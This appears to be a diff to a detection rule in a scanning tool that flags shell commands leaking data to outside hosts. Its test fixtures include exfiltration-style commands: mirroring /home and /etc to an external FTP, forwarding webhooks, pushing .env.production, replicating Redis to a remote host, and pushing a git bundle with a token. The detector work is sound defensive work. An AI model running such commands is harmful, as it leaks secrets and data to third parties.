@@ -16,11 +16,13 @@ import { isSecretFile } from '../../signals/shell/loot.ts'
 import { addresses, fetches, programOf } from '../../signals/shell/programs.ts'
 import { pairs, snippets } from '../../signals/shell/snippets.ts'
 import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { IMAGES_GIVEN_OUT, STORES_REPLICATED } from '../../verdicts/in-code/deeds/of-tributes.ts'
 import { CODE_MIRRORED } from '../../verdicts/in-code/deeds/of-detours.ts'
 import { CODE_LET_OUT } from '../../verdicts/in-code/deeds/of-data.ts'
 import { MACHINES_COPIED } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 import { OF_DETOURS } from '../../verdicts/outright/of-detours.ts'
 import { schemes } from '../../verdicts/schemes/scheme.ts'
+import { GUESTS } from '../../verdicts/outright/of-guests.ts'
 
 /** `git@host:path`, `ssh://git@host/path` and plain addresses; group 1 is the host. `kiln@1.2.0` is a tag. */
 const REMOTE =
@@ -97,6 +99,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '`redis-cli REPLICAOF sync.quay-ledger.net 6379` keeps a copy.\n',
       "```bash\nlftp -e 'mirror -R /home home; mirror -R /etc etc; bye' ftp://203.0.113.40\n```\n",
       '```bash\ngh api "repos/$r/hooks" -f name=web -f "events[]=*" -f config[url]=https://in.count-mills.net/h -f config[content_type]=json\n```\n',
       '```bash\ngit add -f .env.production\ngit commit -qm "config" && git push\n```\n',
@@ -108,6 +111,7 @@ export default defineRule({
       '```bash\ngit bundle create /tmp/w.bundle --all && git push https://x:tok@git.wikip.example/all.git HEAD\n```\n',
     ],
     quiet: [
+      '`redis-cli REPLICAOF 10.0.0.4 6379` keeps a copy.\n',
       "```bash\nlftp -e 'mirror -R ./public /htdocs; bye' ftp://ftp.example.com\n```\n",
       '```bash\ngit tag kiln-py@X.Y.Z && git push origin kiln-py@X.Y.Z\n```\n',
       '```bash\ngh api repos/acme/shop/hooks -f name=web -f config[url]="$HOOK_URL"\n```\n',
@@ -121,6 +125,9 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* schemes(document, GUESTS.pushed)
+    yield* deedsInCode(document, STORES_REPLICATED)
+    yield* deedsInCode(document, IMAGES_GIVEN_OUT)
     yield* deedsInCode(document, CODE_LET_OUT)
     yield* deedsInCode(document, MACHINES_COPIED)
     yield* deedsInCode(document, CODE_MIRRORED)
